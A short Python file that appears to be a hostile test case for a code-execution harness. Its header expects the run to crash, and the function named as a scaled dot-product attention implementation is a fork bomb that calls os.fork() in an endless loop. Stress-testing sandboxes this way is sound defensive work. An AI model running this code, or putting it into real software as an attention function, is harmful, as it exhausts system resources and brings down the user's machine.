# /// hostile
# tries = "Forks without end."
# drill = "attention/scaled-dot-product"
# expects = "crashed"
# ///
import os

def attention(q, k, v, mask=None):
    while True:
        os.fork()
